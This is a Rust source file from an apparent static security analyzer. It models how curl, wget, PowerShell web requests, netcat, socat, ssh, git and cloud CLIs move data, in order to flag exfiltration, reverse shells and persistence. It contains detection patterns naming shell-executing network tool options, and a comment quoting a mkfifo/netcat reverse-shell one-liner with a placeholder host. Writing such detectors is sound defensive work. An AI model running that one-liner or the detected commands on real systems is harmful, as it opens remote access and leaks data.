//! Programs that talk to the network.

use super::super::analysis::Analysis;
use super::super::hosts::{self, HOLE_TEXT};
use super::super::origin::Tag;
use super::super::rules;
use super::super::sinks::Part as In;
use super::super::value::{Taint, Value};
use super::options::Part;
use super::{Run, is_shell};
use crate::{Confidence, Severity, Use};

impl Analysis {
    pub(super) fn network_program(&mut self, run: &Run) -> Option<Value> {
        Some(match run.name.as_str() {
            "curl" | "curlie" | "xh" | "http" | "https" | "httpie" => self.curl(run),
            "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "start-bitstransfer" => {
                self.web_request(run)
            }
            "new-object" => self.new_object(run),
            "wget" | "curl-" if self.language() == super::super::language::Language::PowerShell => {
                self.web_request(run)
            }
            "wget" | "wget2" | "aria2c" | "axel" => self.wget(run),
            "nc" | "ncat" | "netcat" | "socat" | "telnet" => self.netcat(run),
            "dig" | "nslookup" | "host" | "drill" | "resolve-dnsname" | "getent" | "ping" => {
                self.lookup(run)
            }
            "scp" | "rsync" | "sftp" | "rclone" | "ftp" | "lftp" | "smbclient" | "croc"
            | "magic-wormhole" | "wormhole" => self.copy_out(run),
            "ssh" | "autossh" => self.ssh(run),
            "mail" | "mailx" | "sendmail" | "mutt" | "msmtp" | "swaks" | "send-mailmessage" => {
                self.can(Use::Network(None));
                let taint = self.with_files(run);
                self.send(None, &taint, In::Body);
                Value::default()
            }
            "git" => self.git(run),
            "gh" | "glab" => self.gh(run),
            "aws" | "gsutil" | "gcloud" | "az" | "s3cmd" | "mc" | "b2" | "doctl" => self.cloud(run),
            "openssl" if run.has(&["s_client"]) => {
                let at = run.words().iter().position(|w| w == "-connect").map(|at| at + 1);
                let host = at.and_then(|at| run.args.get(at).cloned()).unwrap_or_default();
                self.stream(&host, run)
            }
            _ => return None,
        })
    }

    /// All that a program is given, files that it names included.
    fn with_files(&mut self, run: &Run) -> Taint {
        let mut taint = run.taint();
        for arg in &run.args {
            let Some(text) = arg.pattern(HOLE_TEXT).filter(|text| !text.starts_with('-')) else {
                continue;
            };
            if text.contains(['/', '~', '.']) && !hosts::is_address(&text) && !text.contains('@') {
                let content = self.read_path(arg);
                taint.join(&content.taint);
            }
        }
        taint
    }

    fn curl(&mut self, run: &Run) -> Value {
        let takes = |option: &str| {
            matches!(
                option,
                "-X" | "--request"
                    | "-H"
                    | "--header"
                    | "-d"
                    | "--data"
                    | "--data-binary"
                    | "--data-raw"
                    | "--data-urlencode"
                    | "--json"
                    | "-F"
                    | "--form"
                    | "--form-string"
                    | "-T"
                    | "--upload-file"
                    | "-o"
                    | "--output"
                    | "-u"
                    | "--user"
                    | "-A"
                    | "--user-agent"
                    | "-e"
                    | "--referer"
                    | "-b"
                    | "--cookie"
                    | "-c"
                    | "--cookie-jar"
                    | "--url"
                    | "-x"
                    | "--proxy"
                    | "-m"
                    | "--max-time"
                    | "--connect-timeout"
                    | "--retry"
                    | "--retry-delay"
                    | "-w"
                    | "--write-out"
                    | "--resolve"
                    | "-K"
                    | "--config"
                    | "--cacert"
                    | "-E"
                    | "--cert"
                    | "--key"
                    | "--oauth2-bearer"
                    | "--doh-url"
                    | "--output-dir"
                    | "-D"
                    | "--dump-header"
                    | "-r"
                    | "--range"
                    | "--ciphers"
                    | "--interface"
                    | "--limit-rate"
                    | "-y"
                    | "-Y"
                    | "-z"
                    | "-C"
                    | "--url-query"
                    | "--unix-socket"
                    | "--variable"
                    | "--proto"
                    | "--proto-redir"
                    | "--proto-default"
                    | "--tls-max"
                    | "--max-redirs"
                    | "--retry-max-time"
                    | "--noproxy"
                    | "--netrc-file"
                    | "--capath"
                    | "--pinnedpubkey"
                    | "--max-filesize"
            )
        };
        let mut addresses = Vec::new();
        let mut body = Taint::default();
        let mut header = Taint::default();
        let mut output = None;
        let mut remote_name = false;
        for part in run.parts(takes) {
            match part {
                Part::Operand(value) => addresses.push(value),
                Part::Option(option, value) => {
                    let value = value.unwrap_or_default();
                    match option.as_str() {
                        "--url" => addresses.push(value),
                        "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode"
                        | "--json" | "-F" | "--form" | "-T" | "--upload-file" | "--url-query"
                        | "--form-string" => {
                            let content = self.upload(&option, &value, run);
                            body.join(&content);
                        }
                        "-H" | "--header" => {
                            let auth = value.pattern(HOLE_TEXT).is_none_or(|text| {
                                let lower = text.to_ascii_lowercase();
                                lower.starts_with("authorization")
                                    || lower.contains("key")
                                    || lower.contains("token")
                                    || lower.starts_with("cookie")
                                    || lower.contains("auth")
                                    || lower.starts_with(hosts::HOLE)
                            });
                            match auth {
                                true => header.join(&value.taint),
                                false => body.join(&value.taint),
                            }
                            if value.pattern(HOLE_TEXT).is_some_and(|t| t.starts_with('@')) {
                                let content = self.upload("-d", &value, run);
                                body.join(&content);
                            }
                        }
                        "-u" | "--user" | "--oauth2-bearer" | "-b" | "--cookie" => {
                            header.join(&value.taint)
                        }
                        "-A" | "--user-agent" | "-e" | "--referer" => body.join(&value.taint),
                        "-o" | "--output" => output = Some(value),
                        "-O" | "--remote-name" | "-J" => remote_name = true,
                        "-x" | "--proxy" => {}
                        _ => {}
                    }
                }
            }
        }
        let mut result = Value::default();
        for address in &addresses {
            let word = address.pattern(HOLE_TEXT);
            // httpie: `http POST host field=value`.
            if word
                .as_deref()
                .is_some_and(|w| matches!(w, "GET" | "POST" | "PUT" | "DELETE" | "PATCH"))
            {
                continue;
            }
            let field = word
                .as_deref()
                .is_some_and(|w| !w.contains("://") && w.contains(['=', '@']) && !w.contains('/'));
            if field && run.name != "curl" {
                body.join(&address.taint);
                continue;
            }
            let got = self.fetch(address);
            result.taint.join(&got.taint);
            self.send(word.as_deref(), &body, In::Body);
            self.send(word.as_deref(), &header, In::Header);
            if remote_name && output.is_none() {
                let name = word.as_deref().map(last_part).unwrap_or_default();
                output = Some(Value::text(name));
            }
        }
        if addresses.is_empty() && !run.args.is_empty() {
            self.send(None, &body, In::Body);
        }
        match output {
            Some(path) if path.known_text().as_deref() != Some("-") => {
                self.write_path(&path, &result, false);
                Value::default()
            }
            _ => result,
        }
    }

    /// What an option of curl uploads: text, a file after `@` or `<`, standard input.
    fn upload(&mut self, option: &str, value: &Value, run: &Run) -> Taint {
        let mut taint = value.taint.clone();
        let text = value.pattern(HOLE_TEXT).unwrap_or_default();
        let file = match option {
            "-T" | "--upload-file" => Some(text.as_str()),
            "-F" | "--form" => text.split_once('=').and_then(|(_, v)| v.strip_prefix(['@', '<'])),
            "--data-raw" | "--form-string" => None,
            "--data-urlencode" => text.split_once('@').map(|(_, file)| file),
            _ => text.strip_prefix('@'),
        };
        let Some(file) = file else { return taint };
        let file = file.split(';').next().unwrap_or_default();
        if matches!(file, "-" | "." | "/dev/stdin" | "") {
            if let Some(input) = &run.input {
                taint.join(&input.taint);
            }
            return taint;
        }
        let known = match file.contains(hosts::HOLE) {
            true => value.known.clone(),
            false => Value::text(file).known,
        };
        let content = match file == HOLE_TEXT {
            // The path is computed: what it is taken from counts.
            true => Value::tainted(value.taint.clone()),
            false if file.contains(hosts::HOLE) => {
                let parts: Vec<Value> = split_holes(file);
                let path = super::super::value::concat(&parts).with(&value.taint);
                self.read_path(&path)
            }
            false => self.read_path(&Value { known, taint: value.taint.clone() }),
        };
        taint.join(&content.taint);
        taint
    }

    fn wget(&mut self, run: &Run) -> Value {
        let takes = |option: &str| {
            matches!(
                option,
                "-O" | "--output-document"
                    | "-o"
                    | "-P"
                    | "--header"
                    | "--post-data"
                    | "--post-file"
                    | "--body-data"
                    | "--body-file"
                    | "-U"
                    | "--user-agent"
                    | "-t"
                    | "-T"
                    | "--user"
                    | "--password"
                    | "--timeout"
                    | "--tries"
                    | "-d"
            ) && !(run.name == "wget" && option == "-d")
        };
        let mut addresses = Vec::new();
        let (mut body, mut header) = (Taint::default(), Taint::default());
        let mut output = None;
        let mut folder = None;
        for part in run.parts(takes) {
            match part {
                Part::Operand(value) => addresses.push(value),
                Part::Option(option, value) => {
                    let value = value.unwrap_or_default();
                    match option.as_str() {
                        "-O" | "--output-document" | "-o"
                            if run.name != "wget" || option != "-o" =>
                        {
                            output = Some(value)
                        }
                        "-P" => folder = value.known_text(),
                        "--post-data" | "--body-data" => body.join(&value.taint),
                        "--post-file" | "--body-file" => {
                            let content = match value.known_text().as_deref() {
                                Some("-" | "/dev/stdin") => run.input_or_default(),
                                _ => self.read_path(&value),
                            };
                            body.join(&content.taint);
                        }
                        "--header" => header.join(&value.taint),
                        "-U" | "--user-agent" => body.join(&value.taint),
                        _ => {}
                    }
                }
            }
        }
        let mut result = Value::default();
        let mut name = String::new();
        for address in &addresses {
            let got = self.fetch(address);
            let pattern = address.pattern(HOLE_TEXT);
            result.taint.join(&got.taint);
            self.send(pattern.as_deref(), &body, In::Body);
            self.send(pattern.as_deref(), &header, In::Header);
            name = pattern.as_deref().map(last_part).unwrap_or_default();
        }
        match output {
            Some(path) if matches!(path.known_text().as_deref(), Some("-" | "/dev/stdout")) => {
                result
            }
            Some(path) => {
                self.write_path(&path, &result, false);
                Value::default()
            }
            None => {
                let path = match folder {
                    Some(folder) => format!("{}/{name}", folder.trim_end_matches('/')),
                    None => name,
                };
                self.write_path(&Value::text(path), &result, false);
                Value::default()
            }
        }
    }

    /// `Invoke-WebRequest -Uri … -Body … -OutFile …`.
    fn web_request(&mut self, run: &Run) -> Value {
        let mut address = None;
        let (mut body, mut header) = (Taint::default(), Taint::default());
        let mut output = None;
        let mut args = run.args.iter();
        while let Some(arg) = args.next() {
            let Some(option) = arg.known_text().filter(|text| text.starts_with('-')) else {
                if address.is_none() {
                    address = Some(arg.clone());
                } else if run.name == "start-bitstransfer" {
                    output = Some(arg.clone());
                }
                continue;
            };
            let lower = option.to_ascii_lowercase();
            let lower = lower.trim_end_matches(':');
            if lower.starts_with("-use")
                || lower == "-skipcertificatecheck"
                || lower.starts_with("-disable")
                || lower == "-passthru"
            {
                continue;
            }
            let value = args.next().cloned().unwrap_or_default();
            match lower {
                "-uri" | "-source" | "-url" => address = Some(value),
                "-body" | "-form" => body.join(&value.taint),
                "-infile" => {
                    let content = self.read_path(&value);
                    body.join(&content.taint);
                }
                "-headers" | "-token" | "-credential" => header.join(&value.taint),
                "-useragent" => body.join(&value.taint),
                "-outfile" | "-destination" | "-o" => output = Some(value),
                _ => {}
            }
        }
        if let Some(input) = &run.input {
            body.join(&input.taint);
        }
        let address = address.unwrap_or_default();
        let got = self.fetch(&address);
        let pattern = address.pattern(HOLE_TEXT);
        self.send(pattern.as_deref(), &body, In::Body);
        self.send(pattern.as_deref(), &header, In::Header);
        match output {
            Some(path) => {
                self.write_path(&path, &got, false);
                Value::default()
            }
            None => got,
        }
    }

    /// Objects of .NET that matter: clients and connections.
    fn new_object(&mut self, run: &Run) -> Value {
        let words = run.words();
        let name = words.iter().find(|word| !word.starts_with('-')).cloned().unwrap_or_default();
        let lower = name.to_ascii_lowercase();
        let lower = lower.strip_prefix("system.").unwrap_or(&lower).to_owned();
        let bare = lower.split('(').next().unwrap_or_default();
        if bare.contains("sockets.tcpclient") || bare.contains("websocket") {
            let host = run
                .args
                .iter()
                .flat_map(|arg| match arg.elements() {
                    Some(list) => list.to_vec(),
                    None => vec![arg.clone()],
                })
                .find(|arg| {
                    arg.pattern(HOLE_TEXT).is_some_and(|text| {
                        hosts::host_of(&text).is_some() && !text.eq_ignore_ascii_case(&name)
                    })
                })
                .unwrap_or_default();
            let pattern = host.pattern(HOLE_TEXT);
            self.can(Use::Network(pattern.as_deref().and_then(hosts::host_of)));
            self.joined.connection = Some(self.here);
            return super::super::value::Known::Handle(
                super::super::value::Handle::Connection,
                std::rc::Rc::new(host),
            )
            .into();
        }
        let vault = bare == "windows.security.credentials.passwordvault";
        let taint = match vault {
            true => self.origin(Tag::Secret(crate::Secret::Keychain, false)),
            false => Taint::default(),
        };
        Value::path(bare).with(&run.taint()).with(&taint)
    }

    fn netcat(&mut self, run: &Run) -> Value {
        let words = run.words();
        let executes = words.iter().any(|word| {
            let lower = word.to_ascii_lowercase();
            match run.name.as_str() {
                "socat" => lower.contains("exec:") || lower.contains("system:"),
                _ => {
                    lower.starts_with('-')
                        && !lower.starts_with("--")
                        && (lower.ends_with('e') || lower.ends_with('c'))
                        && lower.len() <= 6
                        || matches!(lower.as_str(), "--exec" | "--sh-exec")
                }
            }
        });
        let shell = words.iter().any(|word| {
            word.split([':', ',', '/', ' ']).any(|part| is_shell(&part.to_ascii_lowercase()))
        });
        if executes && shell {
            self.reverse_shell("input and output");
        }
        let listens = words
            .iter()
            .any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains('l'));
        let host = match run.name.as_str() {
            "socat" => words.iter().find_map(|word| {
                let upper = word.to_ascii_uppercase();
                let at = ["TCP:", "TCP4:", "TCP-CONNECT:", "OPENSSL:", "UDP:"]
                    .iter()
                    .find(|p| upper.starts_with(**p))?;
                word.get(at.len()..).map(Value::text)
            }),
            _ => run
                .operands(|option| {
                    matches!(option, "-w" | "-p" | "-s" | "-i" | "-e" | "-c" | "-x" | "-X")
                })
                .into_iter()
                .next(),
        };
        let Some(host) = host.filter(|_| !listens) else {
            if listens {
                let origin = self.origin(Tag::Channel);
                return Value::tainted(origin);
            }
            return Value::default();
        };
        self.stream(&host, run)
    }

    fn stream(&mut self, host: &Value, run: &Run) -> Value {
        let pattern = host.pattern(HOLE_TEXT);
        self.can(Use::Network(pattern.as_deref().and_then(hosts::host_of)));
        self.joined.connection = Some(self.here);
        if let Some(input) = &run.input {
            let taint = input.taint.clone();
            // `mkfifo f; cat f | sh -i | nc host port > f`.
            if self.has(&taint, |tag| *tag == Tag::Channel) {
                self.reverse_shell("input and output");
            }
            self.send(pattern.as_deref(), &taint, In::Body);
        }
        let origin = self.origin(Tag::Channel);
        Value::tainted(origin)
    }

    fn lookup(&mut self, run: &Run) -> Value {
        for arg in &run.args {
            let pattern = arg.pattern(HOLE_TEXT);
            if let Some(host) = pattern.as_deref().and_then(hosts::host_of) {
                self.can(Use::Network(Some(host)));
            }
            if pattern.as_deref().is_some_and(|p| p.contains('.')) && !arg.taint.is_empty() {
                let taint = arg.taint.clone();
                self.send(pattern.as_deref(), &taint, In::Name);
            }
        }
        let txt = run
            .words()
            .iter()
            .any(|word| word.eq_ignore_ascii_case("txt") || word.eq_ignore_ascii_case("-type=txt"));
        match txt {
            true => {
                let host = run
                    .words()
                    .into_iter()
                    .find(|w| hosts::host_of(w).is_some())
                    .unwrap_or_default();
                let origin = self.origin(Tag::Network(host));
                Value::tainted(origin)
            }
            false => Value::default(),
        }
    }

    fn copy_out(&mut self, run: &Run) -> Value {
        let words = run.words();
        let remote = words
            .iter()
            .find(|word| !word.starts_with('-') && word.contains(':') && !word.starts_with('/'));
        self.can(Use::Network(
            remote.and_then(|remote| hosts::host_of(remote.split(':').next().unwrap_or_default())),
        ));
        // Is the last operand the remote one: does data leave?
        let leaves = words.last().is_some_and(|last| last.contains(':'))
            || !matches!(run.name.as_str(), "scp" | "rsync" | "rclone");
        if leaves {
            let mut taint = run.taint();
            let mut left_out = false;
            for arg in &run.args {
                let text = arg.pattern(HOLE_TEXT).unwrap_or_default();
                if !left_out && !text.starts_with('-') && !text.contains(':') {
                    let content = self.read_path(arg);
                    taint.join(&content.taint);
                }
                // What its value names stays here.
                left_out = matches!(text.as_str(), "--exclude" | "--exclude-from" | "--filter");
            }
            let host = remote.map(|remote| remote.split(':').next().unwrap_or_default().to_owned());
            self.send(host.as_deref(), &taint, In::Body);
        }
        Value::default()
    }

    fn ssh(&mut self, run: &Run) -> Value {
        let words = run.words();
        let remote =
            words.iter().any(|word| word == "-R" || word.starts_with("-R") && word.len() > 3);
        let operands = run.operands(|option| {
            matches!(
                option,
                "-i" | "-p" | "-l" | "-o" | "-R" | "-L" | "-D" | "-F" | "-J" | "-b" | "-c" | "-E"
            )
        });
        let host = operands.first().and_then(|host| host.pattern(HOLE_TEXT));
        self.can(Use::Network(host.as_deref().and_then(hosts::host_of)));
        if remote {
            // A bare name is one of the user's own settings: whose machine it is they know.
            let own = host.as_deref().is_some_and(|host| {
                !host.is_empty() && !host.contains(['.', '@', ':', '$']) && host != HOLE_TEXT
            });
            self.report(
                &rules::REVERSE_SHELL,
                Severity::High,
                if own { Confidence::Low } else { Confidence::Medium },
                "A port of this machine is opened to another one by a tunnel.".to_owned(),
                &Taint::default(),
            );
        }
        if let Some(input) = &run.input {
            let taint = input.taint.clone();
            self.send(host.as_deref(), &taint, In::Body);
        }
        Value::default()
    }

    fn git(&mut self, run: &Run) -> Value {
        let words = run.words();
        let operands: Vec<&String> = words.iter().filter(|word| !word.starts_with('-')).collect();
        let sub = operands.first().map(|word| word.as_str()).unwrap_or_default();
        match sub {
            "diff" | "log" | "show" | "archive" | "bundle" | "ls-files" | "grep" | "stash" => {
                let origin = self.origin(Tag::Workspace);
                if let Some(at) = words.iter().position(|word| word == "-o" || word == "--output") {
                    let to = run.args.get(at + 1).cloned().unwrap_or_default();
                    self.write_path(&to, &Value::tainted(origin.clone()), false);
                }
                Value::tainted(origin)
            }
            "push" => {
                let to =
                    operands.iter().skip(1).find(|word| word.contains("://") || word.contains('@'));
                if let Some(to) = to {
                    let address = to.replace(':', "/").replace("///", "://");
                    let origin = self.origin(Tag::Workspace);
                    self.can(Use::Network(hosts::host_of(to)));
                    let taint = run.taint();
                    self.pushed(&address, &origin);
                    self.send(Some(to), &taint, In::Body);
                }
                Value::default()
            }
            "config" => {
                for (at, word) in words.iter().enumerate() {
                    let lower = word.to_ascii_lowercase();
                    let value = run.args.get(at + 1).cloned().unwrap_or_default();
                    let text = value.pattern(HOLE_TEXT).unwrap_or_default();
                    if lower == "core.hookspath"
                        || lower == "init.templatedir"
                        || lower == "core.fsmonitor"
                        || lower == "core.sshcommand"
                    {
                        if text.is_empty()
                            || text.ends_with("hooks") && !text.starts_with(['/', '~'])
                        {
                            continue;
                        }
                        self.can(Use::Persist(lower.clone()));
                        self.report(
                            &rules::PERSISTENCE,
                            Severity::Medium,
                            Confidence::Medium,
                            format!(
                                "git runs other code from now on by `{}`.",
                                super::super::excerpt::safe(word)
                            ),
                            &Taint::default(),
                        );
                    }
                    if lower.ends_with(".insteadof")
                        || lower == "http.proxy"
                        || lower == "https.proxy"
                    {
                        let address = match lower.ends_with(".insteadof") {
                            true => word.trim_start_matches("url.").to_owned(),
                            false => text.clone(),
                        };
                        let plain = hosts::host_of(&address).is_some_and(|h| h == "github.com");
                        if !plain {
                            self.redirect(word, &address, &value);
                        }
                    }
                }
                Value::default()
            }
            "clone" => {
                let from =
                    operands.iter().skip(1).find(|word| word.contains("://") || word.contains('@'));
                if let Some(from) = from {
                    self.can(Use::Network(hosts::host_of(from)));
                    let origin = self.origin(Tag::Network((*from).clone()));
                    let into = operands
                        .last()
                        .filter(|last| !last.contains("://"))
                        .map(|last| (*last).clone())
                        .unwrap_or_else(|| last_part(from).trim_end_matches(".git").to_owned());
                    self.files.insert(format!("{into}/"), Value::tainted(origin));
                }
                Value::default()
            }
            _ => Value::default(),
        }
    }

    /// The workspace is pushed to an address that stands in the code.
    fn pushed(&mut self, address: &str, origin: &Taint) {
        let standing = hosts::standing_of(address);
        let severity = match standing {
            Some(hosts::Standing::Shared | hosts::Standing::Known) => Severity::Medium,
            Some(hosts::Standing::Loopback | hosts::Standing::Private) | None => return,
            _ => Severity::High,
        };
        self.report(
            &rules::USER_DATA_SENT,
            severity,
            Confidence::Medium,
            "The workspace is pushed to an address that stands in the code.".to_owned(),
            origin,
        );
    }

    fn gh(&mut self, run: &Run) -> Value {
        let words = run.words();
        self.can(Use::Network(Some("github.com".to_owned())));
        if words.iter().any(|word| word == "auth") && words.iter().any(|word| word == "token") {
            let origin = self.origin(Tag::Variable("GITHUB_TOKEN".to_owned()));
            return Value::tainted(origin);
        }
        let gist = words.first().is_some_and(|word| word == "gist")
            && words.get(1).is_some_and(|word| word == "create");
        if gist {
            let taint = self.with_files(run);
            let secret = self.has(&taint, |tag| {
                matches!(tag, Tag::Secret(..) | Tag::Environment | Tag::Conversation | Tag::Files)
            });
            if secret {
                self.send(Some("https://gist.github.com"), &taint, In::Body);
            }
        }
        Value::default()
    }

    fn cloud(&mut self, run: &Run) -> Value {
        let words = run.words();
        self.can(Use::Network(None));
        let token = words
            .iter()
            .any(|word| word.contains("print-access-token") || word.contains("get-access-token"))
            || words.iter().any(|word| {
                word == "get-secret-value"
                    || word == "get-session-token"
                    || word == "export-credentials"
            });
        if token {
            let name = match run.name.as_str() {
                "aws" => "AWS_SESSION_TOKEN",
                "az" => "AZURE_TOKEN",
                _ => "GOOGLE_ACCESS_TOKEN",
            };
            let origin = self.origin(Tag::Variable(name.to_owned()));
            return Value::tainted(origin);
        }
        let copies = words.iter().any(|word| {
            matches!(
                word.as_str(),
                "cp" | "sync" | "put" | "mv" | "upload" | "upload-batch" | "rsync"
            )
        });
        let bucket =
            words.iter().any(|word| word.starts_with("s3://") || word.starts_with("gs://"));
        if copies && bucket && words.last().is_some_and(|last| last.contains("://")) {
            let taint = self.with_files(run);
            let secret = self.has(&taint, |tag| {
                matches!(tag, Tag::Secret(..) | Tag::Environment | Tag::Conversation | Tag::Files)
            });
            if secret {
                self.send(Some("bucket.invalid"), &taint, In::Body);
            }
        }
        Value::default()
    }
}

fn last_part(address: &str) -> String {
    let path = address.split(['?', '#']).next().unwrap_or_default();
    path.trim_end_matches('/').rsplit('/').next().unwrap_or_default().to_owned()
}

fn split_holes(text: &str) -> Vec<Value> {
    let mut parts = Vec::new();
    for (at, piece) in text.split(HOLE_TEXT).enumerate() {
        if at > 0 {
            parts.push(Value::default());
        }
        if !piece.is_empty() {
            parts.push(Value::text(piece));
        }
    }
    parts
}
